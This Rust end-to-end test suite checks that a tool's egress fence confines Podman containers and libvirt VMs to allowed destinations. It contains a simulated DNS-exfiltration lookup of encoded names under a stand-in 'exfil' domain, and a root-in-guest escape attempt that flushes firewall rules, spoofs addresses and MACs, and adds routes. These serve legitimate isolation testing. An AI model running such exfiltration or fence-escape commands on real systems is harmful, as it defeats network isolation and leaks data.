//! The network fence on real Podman and real libvirt: from root in a container and in a VM,
//! only what `EGRESS` allows answers, whatever the guest does to itself. Every probe goes to a
//! namespace the test made (see `common::lab`) or to this machine's own addresses.

mod common;
use common::lab::*;
use common::*;

fn ct_env(extra: &str) -> String {
    format!("INFRA_TYPE=container\nMEMORY=256\nCPUS=1\nDISK=2\nIMAGE={CONTAINER_IMAGE}\nSYNC=none\n{extra}")
}

fn nft_table(slug: &str, family: &str) -> Option<String> {
    let tables = host_ok("nft", &["list", "tables"]);
    tables
        .lines()
        .filter_map(|l| l.strip_prefix(&format!("table {family} ")))
        .map(str::to_owned)
        .find(|t| {
            let text = host_ok("nft", &["list", "table", family, t]);
            text.contains(&format!("/{slug} #"))
        })
}

fn gateway(p: &Project) -> String {
    p.sh("ip -4 route show default | awk '{print $3}'")
}

/// A guest of another project, listening on 9000; returns its address.
fn other_guest(p: &Project) -> String {
    p.ok(&["up"]);
    let script = listener_script("0.0.0.0", 9000);
    p.ok(&[
        "ssh",
        "--",
        "sh",
        "-c",
        &format!("(setsid python3 -c \"{script}\" >/dev/null 2>&1 &)"),
    ]);
    p.status()["address"].as_str().unwrap().to_owned()
}

/// The default for everyone, and the probes every guest must pass.
fn default_probes(probes: &mut Probes, p: &Project, other: &str, kind: &str) {
    let gw = gateway(p);
    probes.expect(&format!("{kind}: internet"), true, reach(p, INTERNET, PORT));
    probes.expect(&format!("{kind}: LAN host"), false, reach(p, LAN, PORT));
    probes.expect(
        &format!("{kind}: LAN host on a documentation range"),
        false,
        reach(p, PUBLIC_LAN, PORT),
    );
    probes.expect(
        &format!("{kind}: tailnet host"),
        false,
        reach(p, TAILNET, PORT),
    );
    probes.expect(
        &format!("{kind}: host via gateway"),
        false,
        reach(p, &gw, HOST_PORT),
    );
    probes.expect(
        &format!("{kind}: host's public address"),
        false,
        reach(p, HOST_PUBLIC, HOST_PORT),
    );
    probes.expect(
        &format!("{kind}: other project's guest"),
        false,
        reach(p, other, 9000),
    );
}

/// DNS under `EGRESS=none` with `EGRESS_ALLOW={NAME_INTERNET}`: a name that exists nowhere
/// gets no answer and never leaves the host (counted by a table of the test's own), the
/// allowed name resolves and opens its address, DNS to another server is closed.
fn dns_probes(probes: &mut Probes, p: &Project, kind: &str, host_name: bool) {
    probes.expect(
        &format!("{kind} none: internet before its name is asked"),
        false,
        reach(p, INTERNET, PORT),
    );
    let guard = DnsGuard::new();
    let (left, asked) = (guard.left(), guard.asked());
    for i in 0..3 {
        let got = lookup(p, &format!("c2VjcmV0LXtpfQ-{i}.exfil.tmpl.test"));
        eprintln!("exfiltration lookup {i}: {got}");
    }
    let gone = (guard.left() - left, guard.asked() - asked);
    eprintln!(
        "queries that left the host: {} (+{} to the stand-in)",
        gone.0, gone.1
    );
    probes.expect(
        &format!("{kind} none: a name that exists nowhere leaves the host"),
        false,
        gone != (0, 0),
    );
    if host_name {
        probes.expect(
            &format!("{kind} none: host.tmpl.internal is the gateway"),
            true,
            lookup(p, "host.tmpl.internal") == gateway(p),
        );
    }
    let got = lookup(p, NAME_INTERNET);
    probes.expect(
        &format!("{kind} none: the allowed name resolves"),
        true,
        got == INTERNET,
    );
    probes.expect(
        &format!("{kind} none: the allowed name's address"),
        true,
        reach(p, INTERNET, PORT),
    );
    probes.expect(
        &format!("{kind} none: a name outside EGRESS_ALLOW resolves"),
        false,
        lookup(p, NAME_LAN) == LAN,
    );
    probes.expect(
        &format!("{kind} none: DNS to another server"),
        false,
        reach(p, PUBLIC_LAN, 53),
    );
    drop(guard);
}

fn dns_env() -> String {
    format!("EGRESS=none\nEGRESS_ALLOW={NAME_INTERNET}\n")
}

#[test]
#[cfg_attr(
    not(feature = "e2e-daemons"),
    ignore = "needs --features e2e-daemons (make test): it restarts the host's Podman service to see the fence outlive it"
)]
fn containers_reach_the_internet_and_nothing_else() {
    // held to the end: its namespaces and firewall tables go when it drops
    let _lab = Lab::new();
    let mut probes = Probes::default();
    let other = Project::new("neighbour", &ct_env("EGRESS=open\n"));
    let other_ip = other_guest(&other);
    // the open neighbour reaches the LAN: the stand-ins work
    probes.expect("open neighbour: LAN host", true, reach(&other, LAN, PORT));

    let p = Project::new("agent", &ct_env(""));
    p.ok(&["up"]);
    let slug = p.slug();
    default_probes(&mut probes, &p, &other_ip, "container");
    assert!(nft_table(&slug, "inet").is_some(), "the fence is in force");
    assert!(p.status()["fence"].as_str().unwrap().contains("in force"));
    let status = p.ok(&["status"]);
    assert!(status.contains("egress    internet (in force"), "{status}");
    probes.expect(
        "container: status names the LAN it closed",
        true,
        status.contains("198.51.100.0/24 (tmplfr0)"),
    );
    // names through the guest's own resolver, forwarded under `internet`
    probes.expect(
        "container: DNS resolves",
        true,
        lookup(&p, NAME_INTERNET) == INTERNET,
    );
    eprintln!(
        "first round: {} probes, {} wrong",
        probes.rows.len(),
        probes.wrong().len()
    );
    // and root in the container has no say: it cannot change its firewall or routes
    let lift = p.run(&[
        "ssh",
        "--",
        "sh",
        "-c",
        "ip route add 172.30.99.0/24 dev eth0",
    ]);
    assert!(!lift.status.success(), "the container cannot add routes");

    p.write(".env", &ct_env("EGRESS=none\n"));
    p.ok(&["up"]);
    probes.expect("none: internet", false, reach(&p, INTERNET, PORT));
    probes.expect("none: LAN host", false, reach(&p, LAN, PORT));

    p.write(".env", &ct_env(&dns_env()));
    p.ok(&["up"]);
    dns_probes(&mut probes, &p, "container", true);

    p.write(
        ".env",
        &ct_env(&format!("EGRESS_ALLOW={LAN}:{PORT},host:{HOST_PORT}\n")),
    );
    p.ok(&["up"]);
    let gw = gateway(&p);
    probes.expect("allow: the LAN host's port", true, reach(&p, LAN, PORT));
    probes.expect(
        "allow: the LAN host's other port",
        false,
        reach(&p, LAN, OTHER_PORT),
    );
    probes.expect("allow: tailnet host", false, reach(&p, TAILNET, PORT));
    probes.expect("allow: host:PORT", true, reach(&p, &gw, HOST_PORT));
    probes.expect("allow: internet", true, reach(&p, INTERNET, PORT));

    p.write(".env", &ct_env("EGRESS=open\n"));
    p.ok(&["up"]);
    probes.expect("open: LAN host", true, reach(&p, LAN, PORT));
    assert!(nft_table(&slug, "inet").is_none(), "open has no fence");

    p.write(".env", &ct_env(""));
    p.ok(&["up"]);

    // the Podman service restarts: the rules name the bridge, not Podman's state
    stop_pid("/run/tmpl-podman-service.pid");
    stop_pid("/run/podman/podman.tmpl-pid");
    setup_from_a_doomed_folder();
    probes.expect(
        "after Podman restarts: LAN host",
        false,
        reach(&p, LAN, PORT),
    );
    probes.expect(
        "after Podman restarts: internet",
        true,
        reach(&p, INTERNET, PORT),
    );

    // a fence whose project is gone is a leftover: doctor lists it, gc removes it
    let gone = p.xdg().join("state/tmpl/gone-0badc0de");
    host_ok(
        "nft",
        &[
            "add",
            "table",
            "inet",
            "tmpl-0badc0de",
            &format!("{{ comment \"tmpl fence of {}\"; }}", gone.display()),
        ],
    );
    let doctor = p.run(&["doctor", "--json"]);
    assert!(String::from_utf8_lossy(&doctor.stdout).contains("tmpl-0badc0de"));
    p.ok(&["gc", "--yes"]);
    assert!(
        host("nft", &["list", "table", "inet", "tmpl-0badc0de"])
            .status
            .code()
            != Some(0)
    );

    p.ok(&["rm", "-f"]);
    assert!(nft_table(&slug, "inet").is_none(), "rm removes the fence");
    let nets = host_ok("podman", &["network", "ls", "--format", "{{.Name}}"]);
    assert!(!nets.contains(&format!("tmpl-{slug}")), "{nets}");
    probes.assert_all_right();
}

#[test]
#[cfg_attr(
    not(feature = "e2e-daemons"),
    ignore = "needs --features e2e-daemons (make test): it restarts the host's libvirtd to see the fence outlive it"
)]
fn a_bridged_vm_cannot_lift_its_fence() {
    let mut lab = Lab::new();
    let bridge = TestBridge::new("tmplf-br", "172.31.77", true);
    lab.host_on_bridge("tmplf-blan", "tmplfb0", &bridge.name, "172.31.77.2");
    let mut probes = Probes::default();
    let other = Project::new("neighbour", &ct_env("EGRESS=open\n"));
    let other_ip = other_guest(&other);

    let p = Project::new(
        "agent",
        &format!(
            "INFRA_TYPE=vm\nMEMORY=768\nCPUS=1\nDISK=5\nIMAGE={TEST_BOX}\nSYNC=none\nNETWORK_TYPE=bridge\nBRIDGE={}\n",
            bridge.name
        ),
    );
    p.ok(&["up"]);
    let slug = p.slug();
    default_probes(&mut probes, &p, &other_ip, "VM");
    probes.expect(
        "VM: DNS resolves",
        true,
        lookup(&p, NAME_INTERNET) == INTERNET,
    );
    // the LAN on its bridge: closed to the VM, but the LAN can still reach it
    let lan_ip = eventually(std::time::Duration::from_secs(60), || {
        let a = p.sh("ip -4 -o addr | awk '{print $4}' | grep '^172.31.77.' | cut -d/ -f1 || true");
        (!a.is_empty()).then_some(a)
    })
    .expect("the bridged NIC got an address from the test's DHCP");
    probes.expect(
        "VM: LAN host on its bridge",
        false,
        reach(&p, "172.31.77.2", PORT),
    );
    probes.expect(
        "VM: host on its bridge",
        false,
        reach(&p, "172.31.77.1", HOST_PORT),
    );
    probes.expect(
        "LAN host -> VM's sshd",
        true,
        lab.reach_from("tmplf-blan", &lan_ip, 22),
    );
    eprintln!(
        "first round: {} probes, {} wrong",
        probes.rows.len(),
        probes.wrong().len()
    );
    assert!(nft_table(&slug, "inet").is_some());
    assert!(nft_table(&slug, "bridge").is_some(), "the tap is held too");

    // root in the VM tries to lift it: flush its firewall, take other addresses (one of the
    // LAN's own), route the closed ranges out, change its MAC on the bridge
    let gw = gateway(&p);
    let lan_nic = p.sh("ip -4 -o addr | grep ' 172.31.77.' | awk '{print $2}'");
    let nat_nic = p.sh("ip -4 route show default | awk '{print $5}'");
    let spoof = "172.30.99.77";
    p.ok(&[
        "ssh",
        "--",
        "sudo",
        "sh",
        "-c",
        &format!(
            "nft flush ruleset 2>/dev/null; iptables -F 2>/dev/null; \
         ip addr add {spoof}/32 dev {nat_nic}; \
         ip route add 172.30.99.0/24 via {gw} src {spoof}; \
         ip route add 100.64.0.0/10 via {gw}; \
         ip route add 172.31.77.2/32 dev {lan_nic}; \
         ip link set {lan_nic} address 52:54:00:de:ad:01; true"
        ),
    ]);
    probes.expect("lifted: LAN host", false, reach(&p, LAN, PORT));
    probes.expect("lifted: tailnet host", false, reach(&p, TAILNET, PORT));
    probes.expect("lifted: host via gateway", false, reach(&p, &gw, HOST_PORT));
    probes.expect(
        "lifted: LAN host on its bridge",
        false,
        reach(&p, "172.31.77.2", PORT),
    );
    probes.expect(
        "lifted: other project's guest",
        false,
        reach(&p, &other_ip, 9000),
    );
    probes.expect("lifted: internet", true, reach(&p, INTERNET, PORT));

    // libvirtd restarts and re-makes its own rules: the fence is not among them
    stop_pid("/run/libvirtd.pid");
    setup_from_a_doomed_folder();
    probes.expect(
        "after libvirtd restarts: LAN host",
        false,
        reach(&p, LAN, PORT),
    );
    probes.expect(
        "after libvirtd restarts: internet",
        true,
        reach(&p, INTERNET, PORT),
    );

    p.ok(&["rm", "-f"]);
    assert!(nft_table(&slug, "inet").is_none() && nft_table(&slug, "bridge").is_none());
    let nets = host_ok(
        "virsh",
        &["-c", "qemu:///system", "net-list", "--all", "--name"],
    );
    assert!(!nets.contains(&format!("tmpl-{slug}")), "{nets}");
    drop(bridge);
    probes.assert_all_right();
}

#[test]
#[cfg_attr(
    not(feature = "e2e"),
    ignore = "needs the real stack: `make test`, or `cargo test --features e2e` after `make setup fixtures`"
)]
fn a_persons_containers_are_fenced_inside_their_rootless_podman() {
    // held to the end: its namespaces and firewall tables go when it drops
    let _lab = Lab::new();
    let user = user::TestUser::new("tmpl-e2e-fence", 2331);
    user.load_image(CONTAINER_IMAGE);
    let mut probes = Probes::default();
    let other = Project::new_as(&user, "neighbour", &ct_env("EGRESS=open\n"));
    let other_ip = other_guest(&other);
    probes.expect("open neighbour: LAN host", true, reach(&other, LAN, PORT));

    let p = Project::new_as(&user, "agent", &ct_env(""));
    let up = p.run(&["up"]);
    assert!(up.status.success());
    default_probes(&mut probes, &p, &other_ip, "rootless container");
    let status = p.status();
    assert!(
        status["fence"]
            .as_str()
            .unwrap()
            .contains("in force: nft table inet tmpl-"),
        "{status}"
    );
    assert!(
        nft_table(&p.slug(), "inet").is_none(),
        "a person's fence is not on the host's firewall"
    );
    probes.expect(
        "rootless container: DNS resolves",
        true,
        lookup(&p, NAME_INTERNET) == INTERNET,
    );

    p.write(
        ".env",
        &ct_env(&format!("EGRESS_ALLOW={LAN}:{PORT},host:{HOST_PORT}\n")),
    );
    p.ok(&["up"]);
    probes.expect(
        "rootless allow: the LAN host's port",
        true,
        reach(&p, LAN, PORT),
    );
    probes.expect(
        "rootless allow: the LAN host's other port",
        false,
        reach(&p, LAN, OTHER_PORT),
    );
    // from a person's Podman the host is one of its own addresses, not the gateway
    probes.expect(
        "rootless allow: host:PORT",
        true,
        reach(&p, HOST_PUBLIC, HOST_PORT),
    );
    probes.expect(
        "rootless allow: tailnet host",
        false,
        reach(&p, TAILNET, PORT),
    );

    p.write(".env", &ct_env("EGRESS=none\n"));
    p.ok(&["up"]);
    probes.expect("rootless none: internet", false, reach(&p, INTERNET, PORT));
    p.write(".env", &ct_env(&dns_env()));
    p.ok(&["up"]);
    dns_probes(&mut probes, &p, "rootless container", false);

    // every container of the person's stops: Podman drops its namespace, and the next `up`
    // brings the fence into the new one before the guest runs
    p.write(".env", &ct_env(""));
    p.ok(&["stop"]);
    other.ok(&["stop"]);
    p.ok(&["up"]);
    probes.expect(
        "after a new namespace: LAN host",
        false,
        reach(&p, LAN, PORT),
    );
    probes.expect(
        "after a new namespace: internet",
        true,
        reach(&p, INTERNET, PORT),
    );

    // the person's Podman service goes away and comes back: the namespace, and the fence in
    // it, stay with the running container
    let rt = format!("/tmp/podman-run-{}/podman/podman.tmpl-pid", user.uid);
    stop_pid(&rt);
    probes.expect(
        "after Podman restarts: LAN host",
        false,
        reach(&p, LAN, PORT),
    );
    probes.expect(
        "after Podman restarts: internet",
        true,
        reach(&p, INTERNET, PORT),
    );
    let table = status["fence"]
        .as_str()
        .unwrap()
        .split("nft table inet ")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    let tables = || {
        user.ok(
            "podman",
            &[
                "unshare",
                "--rootless-netns",
                "/usr/sbin/nft",
                "list",
                "tables",
            ],
        )
    };
    assert!(tables().contains(&table), "{}", tables());
    p.ok(&["rm", "-f"]);
    assert!(
        !tables().contains(&table),
        "rm removes the fence: {}",
        tables()
    );
    probes.assert_all_right();
}

/// Root's choice of upstream for the libvirt hook's resolvers, for as long as the test runs.
struct HookUpstream;

impl HookUpstream {
    fn new() -> HookUpstream {
        std::fs::create_dir_all("/etc/tmpl").unwrap();
        std::fs::write("/etc/tmpl/dns-upstream", format!("{RESOLVER}\n")).unwrap();
        HookUpstream
    }
}

impl Drop for HookUpstream {
    fn drop(&mut self) {
        let _ = std::fs::remove_file("/etc/tmpl/dns-upstream");
    }
}

#[test]
#[cfg_attr(
    not(feature = "e2e-daemons"),
    ignore = "needs --features e2e-daemons (make test): it installs the libvirt hook (scripts/fence-hook.sh) and reloads libvirtd"
)]
fn a_persons_vm_is_fenced_by_roots_libvirt_hook() {
    // held to the end: its namespaces and firewall tables go when it drops
    let _lab = Lab::new();
    // as `make setup` does, with this build (the code under test, unless an older one is)
    let bin = std::env::var("TMPL_TEST_BIN").unwrap_or_else(|_| env!("CARGO_BIN_EXE_tmpl").into());
    host_ok(
        "bash",
        &[
            concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/fence-hook.sh"),
            &bin,
        ],
    );
    let _upstream = HookUpstream::new();
    let mut probes = Probes::default();
    let other = Project::new("neighbour", &ct_env("EGRESS=open\n"));
    let other_ip = other_guest(&other);

    let mut user = user::TestUser::new("tmpl-e2e-fvm", 2332);
    user.regroup(2333);
    user.give_box(TEST_BOX);
    // `tmpl init` then `tmpl up` with the VM template and nothing changed but what this
    // offline machine needs: the test box, and a size that fits next to the other tests
    let p = Project::new_as(&user, "agent", "");
    let _ = std::fs::remove_file(p.dir.join(".env"));
    p.ok(&["init", "vm"]);
    let text = std::fs::read_to_string(p.dir.join(".env")).unwrap();
    p.write(
        ".env",
        &format!("{text}\nIMAGE={TEST_BOX}\nMEMORY=768\nCPUS=1\nDISK=5\nSYNC=none\n"),
    );
    let up = p.run(&["up"]);
    let err = String::from_utf8_lossy(&up.stderr).into_owned();
    probes.expect(
        "person's VM: up with the default .env",
        true,
        up.status.success(),
    );
    if !up.status.success() {
        eprintln!("{err}");
        probes.assert_all_right();
    }
    let slug = p.slug();
    let status = p.status();
    eprintln!("{status}");
    probes.expect(
        "person's VM: status says the fence is in force",
        true,
        status["fence"]
            .as_str()
            .unwrap()
            .contains("in force: nft table inet tmpl-"),
    );
    default_probes(&mut probes, &p, &other_ip, "person's VM");
    probes.expect(
        "person's VM: host.tmpl.internal is the gateway",
        true,
        lookup(&p, "host.tmpl.internal") == gateway(&p),
    );
    probes.expect(
        "person's VM: DNS resolves",
        true,
        lookup(&p, NAME_INTERNET) == INTERNET,
    );
    // root in the VM and the person's own processes cannot lift it
    p.ok(&[
        "ssh",
        "--",
        "sudo",
        "sh",
        "-c",
        "nft flush ruleset 2>/dev/null; iptables -F 2>/dev/null; true",
    ]);
    probes.expect("person's VM lifted: LAN host", false, reach(&p, LAN, PORT));
    let table = nft_table_of_network(&slug).expect("the hook's table is on the host");
    let lift = user
        .command("/usr/sbin/nft")
        .args(["delete", "table", "inet", &table])
        .output()
        .unwrap();
    probes.expect("the person deletes the fence", false, lift.status.success());

    // a stricter policy: the running VM's fence changes when its network starts again
    p.write(
        ".env",
        &format!(
            "{text}\nIMAGE={TEST_BOX}\nMEMORY=768\nCPUS=1\nDISK=5\nSYNC=none\n{}",
            dns_env()
        ),
    );
    let refused = p.run(&["up"]);
    assert!(
        !refused.status.success(),
        "a running VM cannot take a new fence"
    );
    assert!(String::from_utf8_lossy(&refused.stderr).contains("tmpl stop"));
    p.ok(&["stop"]);
    p.ok(&["up"]);
    dns_probes(&mut probes, &p, "person's VM", true);
    probes.expect("person's VM none: LAN host", false, reach(&p, LAN, PORT));

    p.ok(&["rm", "-f"]);
    assert!(
        nft_table_of_network(&slug).is_none(),
        "the network's stop removes the fence"
    );
    assert!(!std::path::Path::new(&format!("/run/tmpl-fence/tmpl-{slug}.json")).exists());
    probes.assert_all_right();
}

/// The hook's table for the person's VM of `slug`.
fn nft_table_of_network(slug: &str) -> Option<String> {
    let tables = host_ok("nft", &["list", "tables", "inet"]);
    tables
        .lines()
        .filter_map(|l| l.strip_prefix("table inet "))
        .map(str::to_owned)
        .find(|t| {
            host_ok("nft", &["list", "table", "inet", t])
                .contains(&format!("of network tmpl-{slug} #"))
        })
}
